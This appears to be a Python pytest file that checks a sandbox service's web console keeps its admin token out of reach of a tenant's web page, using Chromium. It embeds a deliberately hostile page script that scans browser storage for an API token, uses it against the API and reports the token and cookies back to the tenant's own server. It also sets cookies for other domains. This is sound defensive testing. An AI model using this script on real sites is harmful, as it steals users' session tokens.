"""A tenant's web page cannot take the console's token (issue 11, finding 1), in Chromium.

A daemon with --vhost sbx.test; "mallory" serves a page from a public sandbox whose script
looks for a token in every storage it can reach, calls the API with what it finds and reports
to its own server. The admin signs in to the console at http://sbx.test:<port>/ui and opens
that page in the same tab, through the path proxy (the console's origin) and on the
sandbox's own subdomain: tests/web/isolation.test.mjs (node --test, puppeteer-core) drives
the browser and reads the reports."""
import os
import shutil
import signal
import subprocess
import tempfile
import time

import pytest

from conftest import Daemon, Sandboxes, SLOW
from test_sdk_js import ensure_node_modules, npm_env
from test_web import SUITE, pids_using

VHOST = "sbx.test"
SUITE_TIMEOUT = 300

# The tenant's server: /evil.html (the page, with cookies for its host and for the vhost),
# POST /report (what the page found), /reports (everything seen, for the test).
EVIL = r"""
import json, sys, http.server
API = sys.argv[1]
seen, reports = [], []
PAGE = '''<!doctype html><html><head><meta charset="utf-8"><title>a tenant's page</title>
</head><body><h1>A tenant's page</h1><script>
(function () {
  var API = %s, found = [];
  function grab(name) {
    try {
      var s = window[name];
      for (var i = 0; i < s.length; i++) found.push(name + ':' + s.key(i) + '=' + s.getItem(s.key(i)));
    } catch (e) { found.push(name + ':' + e.name); }
  }
  grab('sessionStorage');
  grab('localStorage');
  var m = found.join(' ').match(/sbx_[0-9a-f]{64}/), token = m ? m[0] : null, me;
  try {
    var x = new XMLHttpRequest();
    x.open('GET', API + '/auth/me', false);
    if (token) x.setRequestHeader('Authorization', 'Bearer ' + token);
    x.send();
    me = x.status + ' ' + x.responseText;
  } catch (e) { me = 'error ' + e.name; }
  var r = new XMLHttpRequest();
  r.open('POST', 'report', false);
  r.send(JSON.stringify({origin: location.origin, found: found, token: token, me: me,
                         cookie: document.cookie}));
})();
</script></body></html>''' % json.dumps(API)
class H(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def reply(self, code, body, ctype, extra=()):
        self.send_response(code)
        self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(len(body)))
        for k, v in extra:
            self.send_header(k, v)
        self.end_headers()
        self.wfile.write(body)
    def do_GET(self):
        seen.append(self.path)
        host = (self.headers.get("Host") or "").split(":")[0]
        if self.path == "/evil.html":
            self.reply(200, PAGE.encode(), "text/html; charset=utf-8", [
                ("Set-Cookie", "host=1; Path=/"), ("Set-Cookie", "tossed=1; Domain=sbx.test"),
                ("Set-Cookie", "tossed2=1; Path=/; domain=.SBX.TEST"),
                ("Set-Cookie", "own=1; Domain=" + host)])
        elif self.path == "/reports":
            self.reply(200, json.dumps({"seen": seen, "reports": reports}).encode(),
                       "application/json")
        else:
            self.reply(200, b"ok", "text/plain")
    def do_POST(self):
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        reports.append(json.loads(body or b"{}"))
        self.reply(204, b"", "text/plain")
    def log_message(self, *a):
        pass
http.server.ThreadingHTTPServer(("0.0.0.0", 8080), H).serve_forever()
"""


def test_a_tenants_page_cannot_take_the_consoles_token(registry_url):
    # Not a skip: a machine without Chromium or Node.js must not pass this test silently.
    chromium = shutil.which("chromium")
    assert chromium, "Debian's chromium is needed for the web console's tests (scripts/setup)"
    assert shutil.which("node") and shutil.which("npm"), "Node.js 20+ and npm are needed"
    ensure_node_modules(SUITE)
    with tempfile.TemporaryDirectory(prefix="sbx-test-") as workdir, \
            tempfile.TemporaryDirectory(prefix="sbx-web-") as tmp:
        d = Daemon(workdir, ["--registry-mirror", registry_url, "--vhost", VHOST])
        admin = mallory = None
        try:
            d.start()
            admin = Sandboxes(d.url, d.admin_token)
            r = admin.post("/auth/tokens", json={"user": "mallory"})
            assert r.status_code == 201, r.text
            mallory = Sandboxes(d.url, r.json()["token"])
            s = mallory.create("python", public=True, ports=[8080],
                               args=["python3", "-c", EVIL, f"http://{VHOST}:{d.port}"])
            deadline = time.monotonic() + 30 * SLOW
            while (r := mallory.get(f"/sandboxes/{s['id']}/proxy/ping")).status_code != 200:
                assert time.monotonic() < deadline, r.text
                time.sleep(0.2)
            output, rc = run_suite(tmp, {
                "SANDBOXER_URL": d.url, "SANDBOXER_TOKEN": d.admin_token,
                "SANDBOXER_OWNER_TOKEN": mallory.token, "SANDBOXER_VHOST": VHOST,
                "SANDBOXER_EVIL_ID": s["id"], "SANDBOXER_EVIL_NAME": s["name"],
                "CHROMIUM": chromium, "SANDBOXER_WEB_TMP": tmp})
            print(output[-4000:])
            assert rc == 0, f"the browser suite failed ({rc}):\n{output[-20000:]}"
            assert "ℹ fail 0" in output and "ℹ pass 0" not in output, output[-5000:]
            assert not os.listdir(tmp), f"the suite left {os.listdir(tmp)} behind"
        finally:
            for c in (mallory, admin):
                if c:
                    c.cleanup()
            d.kill()


def run_suite(tmp, extra):
    env = npm_env(extra)
    # its own process group, so that a timeout ends node's test processes too
    p = subprocess.Popen(["node", "--test", "--test-reporter=spec", "isolation.test.mjs"],
                         cwd=SUITE, env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                         text=True, start_new_session=True)
    try:
        output, _ = p.communicate(timeout=SUITE_TIMEOUT)
    except subprocess.TimeoutExpired:
        os.killpg(p.pid, signal.SIGKILL)
        output, _ = p.communicate()
        pytest.fail(f"the browser suite did not finish in {SUITE_TIMEOUT} s:\n{output[-20000:]}")
    finally:
        for pid in pids_using(tmp):  # a browser the suite could not close
            try:
                os.kill(pid, signal.SIGKILL)
            except ProcessLookupError:
                pass
    return output, p.returncode
